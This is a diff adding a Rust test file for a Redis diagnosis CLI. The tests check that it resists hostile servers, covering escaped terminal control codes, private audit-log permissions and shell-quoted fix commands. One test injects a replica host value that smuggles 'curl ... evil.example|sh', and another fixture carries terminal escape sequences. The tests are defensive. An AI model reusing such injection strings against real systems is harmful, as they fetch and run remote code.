@@ -1,0 +1,261 @@
+//! Trust boundaries: hostile servers and applications, careless operators.
+//! Each test starts the real thing (a redis-server, a hostile RESP or HTTP
+//! server in the test) and checks what reaches the operator.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::os::unix::fs::PermissionsExt;
+use std::time::Duration;
+
+use crate::app_server::{AppServer, Reply};
+use crate::harness::*;
+
+#[test]
+fn bad_tls_files_missing_databases_and_silly_durations_are_usage_errors() {
+    let server = RedisServer::start();
+    let dir = tempfile::tempdir().unwrap();
+    let empty = dir.path().join("empty.pem");
+    std::fs::write(&empty, "").unwrap();
+    let tls_url = format!("rediss://127.0.0.1:{}", server.port);
+    let cases: Vec<(Vec<String>, &str)> = vec![
+        (
+            vec![
+                "--url".into(),
+                tls_url.clone(),
+                "--tls-ca".into(),
+                "/nonexistent/ca.pem".into(),
+            ],
+            "--tls-ca: cannot read /nonexistent/ca.pem",
+        ),
+        (
+            vec![
+                "--url".into(),
+                tls_url.clone(),
+                "--tls-ca".into(),
+                empty.display().to_string(),
+            ],
+            "holds no PEM certificate",
+        ),
+        (
+            vec![
+                "--url".into(),
+                tls_url,
+                "--tls-cert".into(),
+                empty.display().to_string(),
+                "--tls-key".into(),
+                empty.display().to_string(),
+            ],
+            "--tls-cert:",
+        ),
+        (
+            vec!["--url".into(), format!("{}/99", server.url())],
+            "database 99 does not exist",
+        ),
+        (
+            vec![
+                "--url".into(),
+                server.url(),
+                "--timeout".into(),
+                "1e-12".into(),
+            ],
+            "shorter than 1ms",
+        ),
+        (
+            vec![
+                "--url".into(),
+                server.url(),
+                "--timeout".into(),
+                "1e30".into(),
+            ],
+            "24h",
+        ),
+    ];
+    for (args, expected) in cases {
+        let run = Cachectl::new().arg("diagnose").args(&args).run();
+        assert_eq!(run.code(), 3, "{args:?}: {}", run.all_output());
+        assert!(
+            run.stderr().contains(expected),
+            "{args:?}: {}",
+            run.stderr()
+        );
+        assert_eq!(run.stdout(), "", "{args:?}: no report for a usage error");
+    }
+}
+
+#[test]
+fn the_audit_log_is_private_whatever_the_umask() {
+    let server = RedisServer::start();
+    server.cmd(&["CONFIG", "SET", "slowlog-log-slower-than", "0"]);
+    server.cmd(&["KEYS", "*"]);
+    let state = tempfile::tempdir().unwrap();
+    let audit = state.path().join("new-dir/audit.jsonl");
+    let bin = env!("CARGO_BIN_EXE_cachectl");
+    let out = std::process::Command::new("sh")
+        .args(["-c", "umask 000; exec \"$0\" \"$@\"", bin])
+        .args([
+            "diagnose",
+            "-o",
+            "json",
+            "--url",
+            &server.url(),
+            "--only",
+            "high-latency",
+        ])
+        .args(["--fix", "--yes", "--audit-log", audit.to_str().unwrap()])
+        .output()
+        .unwrap();
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let applied = report["remediation"]["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|a| a["outcome"] == "applied")
+        .count();
+    assert!(applied > 0, "{report:#}");
+    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&audit), 0o600);
+    assert_eq!(mode(audit.parent().unwrap()), 0o700);
+}
+
+#[test]
+fn server_and_app_text_cannot_drive_the_terminal() {
+    let server = RedisServer::start();
+    let app = AppServer::start();
+    app.route(
+        "/health/ready",
+        Reply::json(503, "{\"redis\":\"down \u{1b}]0;pwned\u{7}\u{1b}[2J\"}"),
+    );
+    let run = Cachectl::new()
+        .args(["diagnose", "--url", &server.url(), "--app", &app.url()])
+        .args([
+            "--interval",
+            "0",
+            "--only",
+            "app-readiness",
+            "--color",
+            "always",
+        ])
+        .run();
+    let out = run.stdout();
+    assert!(out.contains("down \\x1b]0;pwned\\x07\\x1b[2J"), "{out}");
+    for raw in ["\u{1b}]0;", "\u{7}", "\u{1b}[2J"] {
+        assert!(
+            !out.contains(raw),
+            "raw {raw:?} reached the terminal:\n{out}"
+        );
+    }
+    // JSON keeps the text as it was, escaped by JSON itself.
+    let run = diagnose(
+        &server.url(),
+        &[
+            "--app",
+            &app.url(),
+            "--interval",
+            "0",
+            "--only",
+            "app-readiness",
+        ],
+    );
+    let f = expect_finding(&run.json(), "app-not-ready", "critical");
+    assert!(f["message"]
+        .as_str()
+        .unwrap()
+        .contains("\u{1b}]0;pwned\u{7}"));
+}
+
+#[test]
+fn a_redis_error_with_escape_codes_is_shown_escaped() {
+    let port = answers_everything_with(b"-ERR \x1b[31mred alert\x1b[0m\r\n");
+    let run = Cachectl::new()
+        .args([
+            "diagnose",
+            "--url",
+            &format!("redis://127.0.0.1:{port}"),
+            "--color",
+            "always",
+        ])
+        .run();
+    let out = run.stdout();
+    assert!(out.contains("\\x1b[31mred alert"), "{out}");
+    assert!(!out.contains("\u{1b}[31mred"), "{out}");
+}
+
+#[test]
+fn manual_commands_quote_server_controlled_values_for_the_shell() {
+    let server = RedisServer::start();
+    let evil = "10.0.0.1;curl${IFS}evil.example|sh;#";
+    server.cmd(&["REPLICAOF", evil, "6379"]);
+    let run = diagnose(&server.url(), &["--only", "replication"]);
+    let f = expect_finding(&run.json(), "replica-link-down", "critical");
+    let command = f["fixes"][0]["commands"][0].as_str().unwrap();
+    assert_eq!(
+        command,
+        "redis-cli -h '10.0.0.1;curl${IFS}evil.example|sh;#' -p 6379 PING"
+    );
+    // Pasted into a shell, it is one command with exactly those arguments.
+    let words = std::process::Command::new("sh")
+        .args([
+            "-c",
+            &format!(
+                "printf '%s\\n' {}",
+                command.trim_start_matches("redis-cli ")
+            ),
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&words.stdout),
+        format!("-h\n{evil}\n-p\n6379\nPING\n")
+    );
+    server.cmd(&["REPLICAOF", "NO", "ONE"]);
+}
+
+/// A RESP server that answers every command with `reply`.
+fn answers_everything_with(reply: &'static [u8]) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            std::thread::spawn(move || {
+                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut reader = BufReader::new(stream.try_clone().unwrap());
+                let mut writer = stream;
+                let mut line = String::new();
+                while reader.read_line(&mut line).map(|n| n > 0).unwrap_or(false) {
+                    if line.starts_with('*') || line.trim().eq_ignore_ascii_case("PING") {
+                        let _ = writer.write_all(reply);
+                    }
+                    line.clear();
+                }
+            });
+        }
+    });
+    port
+}
+
+#[test]
+fn a_server_that_says_ok_to_everything_is_never_healthy() {
+    let port = answers_everything_with(b"+OK\r\n");
+    let run = diagnose(&format!("redis://127.0.0.1:{port}"), &[]);
+    let report = run.json();
+    let f = expect_finding(&report, "replies-not-redis", "critical");
+    assert!(f["message"].as_str().unwrap().contains("INFO"), "{f:#}");
+    assert_ne!(report["status"], "ok");
+    assert_eq!(run.code(), 2);
+    let kinds: Vec<_> = report["unavailable"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|u| u["kind"] == "malformed")
+        .map(|u| u["fact"].as_str().unwrap().to_string())
+        .collect();
+    for fact in ["info", "role", "config", "slowlog", "clients", "latency"] {
+        assert!(kinds.contains(&fact.to_string()), "{kinds:?}");
+    }
+
+    // Errors to everything: nothing could be judged, so UNKNOWN, not OK.
+    let port = answers_everything_with(b"-ERR nope\r\n");
+    let run = diagnose(&format!("redis://127.0.0.1:{port}"), &[]);
+    expect_finding(&run.json(), "core-facts-missing", "unknown");
+    assert_eq!(run.code(), 3);
+}
